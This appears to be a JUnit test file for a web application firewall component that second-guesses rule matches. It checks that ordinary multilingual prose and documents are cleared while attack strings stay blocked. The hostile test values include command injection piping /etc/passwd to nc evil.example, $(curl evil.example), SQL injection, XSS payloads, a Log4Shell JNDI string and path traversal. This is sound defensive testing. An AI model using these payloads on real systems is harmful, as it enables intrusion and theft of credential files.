package dev.jadegate.seclang.opinion;

import static org.assertj.core.api.Assertions.assertThat;

import dev.jadegate.seclang.rule.Variable;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SecondOpinionTest {
    private static final long COMMANDS = 932235;

    private static final Opinion.Scene FORM = scene("/api/items/5", "URLENCODED", true);

    private static Opinion.Scene scene(String path, String processor, boolean hasBody) {
        return scene(path, processor, hasBody, "GET HEAD POST OPTIONS");
    }

    private static Opinion.Scene scene(String path, String processor, boolean hasBody, String methods) {
        return new Opinion.Scene() {
            @Override
            public String path() {
                return path;
            }

            @Override
            public String bodyProcessor() {
                return processor;
            }

            @Override
            public String setting(String name) {
                return name.equals("allowed_methods") ? methods : "";
            }

            @Override
            public boolean hasBody() {
                return hasBody;
            }
        };
    }

    private static String bytes(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }

    private static List<Reason> reasons(long rule, String value) {
        String raw = bytes(value);
        return SecondOpinion.onAll().begin(FORM).overrules(new Doubt(rule, Variable.ARGS, "q", raw, raw));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "I like dogs; cat food is expensive & hard to find here.",
                "Is it time to find a new host? Let's sort it out.",
                "Bei uns ist der Tisch kaputt; echo kommt aus der Wand.",
                "Je n'ai pas reçu ma commande ; head office m'a dit d'attendre.",
                "Могу ли я изменить адрес; спасибо",
                "我想改地址；謝謝",
                "أريد تغيير العنوان; شكرا",
                "O'Brien",
                "D'Angelo & O'Connor",
                "5' 11\" x 6'",
                "12/31/2023",
                "<p>We'd like to <strong>order</strong>; find out more <a href=\"https://example.org/a?b=1\">here</a>.</p>",
                "<!-- wp:paragraph -->\n<p>Find it here.</p>\n<!-- /wp:paragraph -->",
                "{\"a\":[1,2],\"b\":{\"c\":\"x\"}}",
                "id;name;price\n1;cat;5\n2;lamp;7\n",
                "host: a\nport: 80\nlevel: info\n",
                "query { user(id: 5) { name orders { id } } }",
                "java.lang.IllegalStateException: no\n\tat a.b.C.d(C.java:5)\n\tat a.b.E.f(E.java:6)\n",
                "From: Anna <a@example.org>\nTo: b@example.org\nSubject: hello\n\nSee you; bye!",
                "Rechnung März (final).pdf",
                "6f1d5b1e-8a3c-4f6e-9f5d-0c4a7f2b1d3e",
                "https://example.org/a;v=1?x=1&y=2",
                "How do I select rows where count(*) > 1? I have tried to group them but it did not work for the table."
            })
    void ordinary_values_are_found_harmless_for_reasons(String value) {
        assertThat(reasons(COMMANDS, value))
                .as(SecondOpinion.explain(bytes(value)))
                .contains(Reason.NO_STRUCTURE)
                .hasSizeGreaterThan(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "please; cat /etc/passwd thanks",
                "I would like to know the price of the chair; whoami",
                "We are happy with it `id` and will come back to you soon.",
                "The weather is nice today $(curl evil.example) and we are happy.",
                "It was a nice day, wasn't it? c'a't /etc/passwd | nc evil.example 80",
                "thank you; hostname ; bye",
                "hello my friend\nls -la /home\nand good bye to you",
                "The red one, please' or '1'='1",
                "This is the name that I would like to have 1 UNION SELECT password FROM users",
                "What is the price of it? ' AND SLEEP(5)-- -",
                "What is the price of it; drop table users",
                "I have a question about this <script>alert(1)</script> thing.",
                "I have a question about this <img src=x onerror=alert(1)> thing.",
                "I have a question, you see: javascript:alert(1)",
                "Please greet {{7*7}} of them for me, will you?",
                "Please greet ${jndi:ldap://evil.example/a} for me, will you?",
                "We have seen <?php system('id'); ?> in the page.",
                "We have seen %3Cscript%3Ealert(1)%3C/script%3E in the page.",
                "We have seen &lt;script&gt;alert(1)&lt;/script&gt; in the page.",
                "<p onclick=\"x()\">We have seen it.</p>",
                "<p><a href=\"javascript:x()\">We have seen it.</a></p>",
                "<!-- #exec cmd=\"id\" --><p>We have seen it.</p>",
                "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "{\"name\":\"x\",\"q\":\"1' or '1'='1\"}",
                "{\"name\":{\"$ne\":null}}",
                "a,b,c\n1,2,3\n4,5,$(id)\n",
                "x'or'x'='x",
                "O'Brien' or 'a'='a",
                ";id",
                "cat /etc/passwd",
                "a;nslookup evil.example",
                "../../../etc/passwd",
                "{cat,/etc/passwd}",
                "{,ifconfig}",
                "c{a,oun}t",
                "time sh -c whoami",
                "ansible all -m ping"
            })
    void an_attack_stands_also_within_prose_and_documents(String value) {
        for (long rule : SecondOpinion.table()) {
            if (rule != 911100 && rule != 920420 && rule != 920440) {
                assertThat(reasons(rule, value)).as("%d: %s", rule, value).isEmpty();
            }
        }
    }

    @Test
    void a_value_that_says_nothing_for_itself_stands() {
        assertThat(reasons(COMMANDS, "@@##;cut")).isEmpty();
        assertThat(reasons(COMMANDS, "")).isEmpty();
    }

    @Test
    void rules_outside_of_the_table_are_of_no_concern() {
        SecondOpinion opinion = SecondOpinion.onAll();
        assertThat(opinion.concerns(944150)).as("Log4Shell").isFalse();
        assertThat(opinion.concerns(913100)).as("scanners").isFalse();
        assertThat(opinion.concerns(949110)).as("the decision").isFalse();
        assertThat(opinion.concerns(COMMANDS)).isTrue();
        assertThat(SecondOpinion.without(Set.of(COMMANDS)).concerns(COMMANDS)).isFalse();
    }

    @Test
    void a_value_beyond_the_limit_stands() {
        String prose = "Please send the parcel to my new address, thank you. ";
        String longest = prose.repeat(SecondOpinion.VALUE_BYTES_MAX / prose.length());
        assertThat(reasons(COMMANDS, longest)).isNotEmpty();
        assertThat(reasons(COMMANDS, longest + prose)).isEmpty();
    }

    @Test
    void values_beyond_the_limit_of_a_transaction_stand() {
        Opinion.Session session = SecondOpinion.onAll().begin(FORM);
        String prose = "Please send the parcel to my new address, thank you. ".repeat(2_000);
        int values = SecondOpinion.TRANSACTION_BYTES_MAX / prose.length();
        for (int at = 0; at < values; at++) {
            String value = at % 10 + prose.substring(1);
            assertThat(session.overrules(new Doubt(COMMANDS, Variable.ARGS, "q", value, value)))
                    .isNotEmpty();
        }
        assertThat(session.overrules(
                        new Doubt(COMMANDS, Variable.ARGS, "q", "x" + prose.substring(1), "x" + prose.substring(1))))
                .isEmpty();
    }

    @Test
    void a_method_is_a_call_only_where_the_body_is_inspected_and_the_path_names_no_file() {
        assertThat(method("PUT", scene("/api/items/5", "JSON", true))).containsExactly(Reason.API);
        assertThat(method("DELETE", scene("/api/items/5", "", false))).containsExactly(Reason.API);
        assertThat(method("PUT", scene("/api/items/5", "", true))).isEmpty();
        assertThat(method("PUT", scene("/api/items/5", "JSON", true, "GET POST")))
                .as("somebody chose the methods")
                .isEmpty();
        assertThat(method("PUT", scene("/shell.jsp", "JSON", true))).isEmpty();
        assertThat(method("TRACE", scene("/", "", false))).isEmpty();
        assertThat(method("PROPFIND", scene("/", "", false))).isEmpty();
    }

    private static List<Reason> method(String method, Opinion.Scene scene) {
        return SecondOpinion.onAll()
                .begin(scene)
                .overrules(new Doubt(911100, Variable.REQUEST_METHOD, "", method, method));
    }

    @Test
    void a_mailbox_as_a_segment_of_a_path_has_no_extension() {
        assertThat(extension("/users/anna@example.com")).containsExactly(Reason.ADDRESS);
        assertThat(extension("/whois/example.com")).containsExactly(Reason.ADDRESS);
        assertThat(extension("/scripts/command.com")).isEmpty();
        assertThat(extension("/backup/site.bak")).isEmpty();
    }

    private static List<Reason> extension(String path) {
        return SecondOpinion.onAll()
                .begin(scene(path, "", false))
                .overrules(new Doubt(920440, Variable.TX, "extension", ".com/", ".com/"));
    }

    @Test
    void hostile_values_of_maximum_size_are_read_to_the_end() {
        for (String piece : List.of(
                "'",
                "\"",
                "<",
                "<!-- ",
                "{",
                "((",
                "; ",
                "%25",
                "&#x26;",
                "\\",
                "a ",
                "$(",
                "..%2f",
                "\n",
                "\u00ff",
                "=1,",
                "x'",
                "\0",
                "select ",
                "<a href=",
                "{{",
                "/*",
                "-- ",
                "cat ",
                "[[\"",
                "a: b\n",
                "a,b,c\n",
                "at a.b(C.java:1)\n")) {
            String value = piece.repeat(SecondOpinion.VALUE_BYTES_MAX / piece.length());
            assertThat(SecondOpinion.onAll()
                            .begin(FORM)
                            .overrules(new Doubt(COMMANDS, Variable.ARGS, "q", value, value)))
                    .as(piece)
                    .doesNotContainNull();
        }
    }

    @Test
    void random_values_are_judged_alike_each_time() {
        long seed = 20_261_127;
        Random random = new Random(seed);
        String[] pieces = {
            "the ",
            "and ",
            "cat ",
            "; ",
            "' ",
            "\"",
            "or ",
            "1=1",
            "<b>",
            "</b>",
            "<",
            "%3c",
            "&lt;",
            "\u00e4",
            "\u4f60",
            "\n",
            "$",
            "{",
            "}",
            "(",
            ")",
            "\\x3c",
            "/etc/",
            "union ",
            "select ",
            "is ",
            "you ",
            "-- ",
            "#",
            "=",
            ",",
            "\ud83d\ude00",
            "\0",
            "YWJj",
            "."
        };
        for (int round = 0; round < 3_000; round++) {
            StringBuilder text = new StringBuilder();
            for (int count = random.nextInt(30); count > 0; count--) {
                text.append(pieces[random.nextInt(pieces.length)]);
            }
            String value = text.toString();
            List<Reason> first = reasons(COMMANDS, value);
            assertThat(reasons(COMMANDS, value))
                    .as("seed %d, round %d: %s", seed, round, value)
                    .isEqualTo(first);
            if (!first.isEmpty()) {
                assertThat(first)
                        .as("seed %d, round %d: %s", seed, round, value)
                        .contains(Reason.NO_STRUCTURE);
                assertThat(first.stream().mapToInt(Reason::weight).sum())
                        .isGreaterThanOrEqualTo(SecondOpinion.WEIGHT_MIN);
            }
        }
    }
}
